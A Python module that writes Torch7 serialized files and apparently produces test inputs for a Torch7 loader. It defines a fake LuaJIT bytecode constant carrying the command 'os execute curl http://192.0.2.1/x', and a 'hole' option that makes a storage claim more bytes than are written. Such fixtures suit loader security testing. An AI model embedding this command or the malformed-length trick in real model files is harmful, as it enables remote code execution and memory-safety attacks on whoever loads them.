"""Files of Torch7, object by object, in binary or in words."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from dataclasses import dataclass
from typing import TypeAlias


@dataclass(frozen=True)
class Function:
    """Bytecode, and the variables that it closes over."""

    bytecode: bytes
    variables: Value = None
    kind: int = 8


@dataclass(frozen=True)
class Tensor:
    """Of floats, in a storage of its own."""

    numbers: tuple[float, ...]


@dataclass(frozen=True)
class Object:
    name: str
    content: Value


Value: TypeAlias = "bool | float | str | dict[Value, Value] | Function | Tensor | Object | None"
BYTECODE = b"\x1bLJ\x02\x02" + b"os execute curl http://192.0.2.1/x"
FORMATS = {"int": "<i", "long": "<q", "double": "<d", "float": "<f"}


def torch7(value: Value, *, words: bool = False, hole: int = 0) -> bytes:
    """The file. The last storage claims ``hole`` more bytes than are written."""
    out = b""
    for kind, each in _item(value, [0]):
        if kind == "count":
            out += struct.pack("<q", each + hole // 4) if not words else f"{each}\n".encode()
            continue
        if isinstance(each, bytes):
            out += each + (b"\n" if words else b"")
        else:
            out += f"{each}\n".encode() if words else struct.pack(FORMATS[kind], each)
    return out


def _item(value: Value, count: list[int]) -> Iterator[tuple[str, float | bytes]]:
    match value:
        case None:
            yield "int", 0
        case bool():
            yield from (("int", 5), ("int", int(value)))
        case int() | float():
            yield from (("int", 1), ("double", value))
        case str():
            yield "int", 2
            yield from _text(value.encode())
        case dict():
            yield from (("int", 3), *_number(count), ("int", len(value)))
            for pair in value.items():
                for each in pair:
                    yield from _item(each, count)
        case Function(bytecode, variables, kind):
            yield from (("int", kind), *(_number(count) if kind > 6 else ()), *_text(bytecode))
            yield from _item(variables, count)
        case Object(name, content):
            yield from (*_class(name, count), *_item(content, count))
        case Tensor(numbers):
            yield from (*_class("torch.FloatTensor", count), ("int", 1), ("long", len(numbers)), ("long", 1))
            yield from (("long", 1), *_class("torch.FloatStorage", count), ("count", len(numbers)))
            yield from (("float", number) for number in numbers)


def _number(count: list[int]) -> list[tuple[str, int]]:
    count[0] += 1
    return [("int", count[0])]


def _text(text: bytes) -> list[tuple[str, float | bytes]]:
    return [("int", len(text)), ("text", text)]


def _class(name: str, count: list[int]) -> list[tuple[str, float | bytes]]:
    return [("int", 4), *_number(count), *_text(b"V 1"), *_text(name.encode())]
